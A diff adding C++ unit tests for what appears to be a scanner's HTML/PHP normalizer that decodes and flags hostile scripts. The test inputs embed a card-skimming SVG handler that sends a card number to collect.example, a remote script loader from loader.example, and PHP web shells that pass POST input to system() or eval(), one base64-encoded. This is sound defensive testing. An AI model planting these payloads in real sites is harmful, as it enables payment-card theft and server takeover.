@@ -191,6 +191,60 @@ TEST(Normalize, ShallowTaintKeepsFrameworkCallbacksQuiet) {
   EXPECT_LE(Best(t), 2);
 }
 
+TEST(Normalize, EventHandlersOfMarkupAreScripts) {
+  // An SVG whose onload decodes and runs a card grabber; the attribute's quotes as references.
+  auto n = Normalize(
+      "<div>Footer</div><svg onload=\"var f=document.getElementById(&quot;cc_number&quot;);"
+      "new Image().src='https://collect.example/p?d='+btoa(f.value)\"></svg>",
+      CodeKind::kHtml);
+  bool layer = false;
+  for (const CodeLayer& l : n.layers) layer |= l.path == "html>handler#1";
+  EXPECT_TRUE(layer);
+  EXPECT_GE(Best(n), 3) << AllText(n);
+  // Handlers in a PHP template's markup too.
+  auto p = Normalize(
+      "<?php echo $title; ?><img src=x onerror=\"var s=document.createElement('script');"
+      "s.src='https://loader.example/a.js';document.body.appendChild(s)\">",
+      CodeKind::kPhp);
+  bool script = false;
+  for (const CodeTrait& t : p.traits) script |= t.host == "loader.example";
+  EXPECT_TRUE(script) << AllText(p);
+  // Short handlers (a menu toggle) are left alone; so is text that only says "on".
+  auto q =
+      Normalize("<a onclick=\"go(1)\">on=\"not a handler at all, just text\"</a>", CodeKind::kHtml);
+  for (const CodeLayer& l : q.layers) EXPECT_EQ(l.path.find("handler"), std::string::npos);
+}
+
+TEST(Normalize, PhpWithoutAnOpenTagIsReadAsAPayload) {
+  EXPECT_TRUE(BarePhpPayload("$f = fopen($_SERVER['DOCUMENT_ROOT'] . '/x.php', 'w');\n"));
+  EXPECT_TRUE(BarePhpPayload("GIF89a\nerror_reporting(0);\n$x = 1;"));
+  EXPECT_TRUE(HasTrait(Normalize("$c = $_POST['c'];\nsystem($c);\n", CodeKind::kPhp),
+                       "php.request_to_shell"));
+  // Markup, prose and a file with a tag further in are not payloads.
+  EXPECT_FALSE(BarePhpPayload("<h1>This is the alternate template</h1>"));
+  EXPECT_FALSE(BarePhpPayload("Content from TestPlugin.Element/sub_dir/sub_element\n"));
+  EXPECT_FALSE(BarePhpPayload("$x = 1;\n<?php echo $x;"));
+  EXPECT_FALSE(BarePhpPayload(""));
+}
+
+TEST(Normalize, ShortBase64OfAnOpenTagIsDecoded) {
+  // "<?php @eval($_POST['k'])?>" in 40 bytes of base64: too short for a blob, decoded anyway.
+  auto n = Normalize(
+      "<?php $p = 'PD9waHAgQGV2YWwoJF9QT1NUWydrJ10pPz4='; $p = base64_decode($p);"
+      " file_put_contents('/tmp/' . md5(1), $p);",
+      CodeKind::kPhp);
+  EXPECT_TRUE(HasTrait(n, "php.request_to_exec")) << AllText(n);
+}
+
+TEST(Normalize, LayersReachedTwiceAreReadOnce) {
+  // The folds decode the literal, and so does the blob guess: one layer.
+  std::string blob = "ZWNobyAnaGVsbG8nOyAkYSA9IDE7ICRiID0gMjsgJGMgPSAkYSArICRiOyBlY2hvICRjOw==";
+  auto n = Normalize("<?php $s = base64_decode('" + blob + "'); eval($s);", CodeKind::kPhp);
+  int decoded = 0;
+  for (const CodeLayer& l : n.layers) decoded += l.text.find("echo 'hello'") != std::string::npos;
+  EXPECT_EQ(decoded, 1) << AllText(n);
+}
+
 // --- broken and hostile input: bounded, never a crash ------------------------------
 
 TEST(NormalizeBroken, UnterminatedStringsCommentsHeredocs) {
